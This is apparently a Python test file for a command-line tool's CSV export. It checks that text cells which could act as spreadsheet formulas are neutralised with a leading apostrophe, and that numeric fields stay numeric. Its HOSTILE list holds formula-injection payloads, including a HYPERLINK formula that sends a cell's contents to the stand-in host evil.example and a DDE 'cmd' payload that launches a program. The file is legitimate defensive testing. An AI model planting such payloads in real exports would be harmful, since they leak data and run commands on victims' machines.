"""``--csv`` output cannot carry a spreadsheet formula: text cells starting with = + - @ tab or CR get a
leading ``'`` (OWASP); numbers stay numbers."""

from __future__ import annotations

import csv
import io

from tests.cli.conftest import Env

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"open me")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
           "\t=1+1", "\r=1+1"]


def test_csv_cells_are_not_formulas_and_numbers_stay_numbers(env: Env) -> None:
    devices = {env.register(name=name).imei: name for name in HOSTILE}
    plain = env.register(name="truck 7")
    rows = list(csv.DictReader(io.StringIO(env.ok("devices", "list", "--all", "--csv").stdout, newline="")))
    names = {r["imei"]: r["name"] for r in rows}
    for imei, name in devices.items():
        assert names[imei] == "'" + name, (name, names[imei])
    assert names[plain.imei] == "truck 7"

    env.post_alarm(plain, type="CRASH", ts="2026-01-01T00:00:00Z", lat=-33.5, lon=-70.25, speed_kmh=0,
                   details={"note": "=1+1"})
    out = env.ok("alarms", "list", "--imei", plain.imei, "--all", "--csv").stdout
    (alarm,) = list(csv.DictReader(io.StringIO(out, newline="")))
    assert alarm["lat"] == "-33.5" and alarm["lon"] == "-70.25" and alarm["speed_kmh"] == "0.0"
    assert alarm["details"] == '{"note":"=1+1"}'  # nested values are JSON, which starts with {
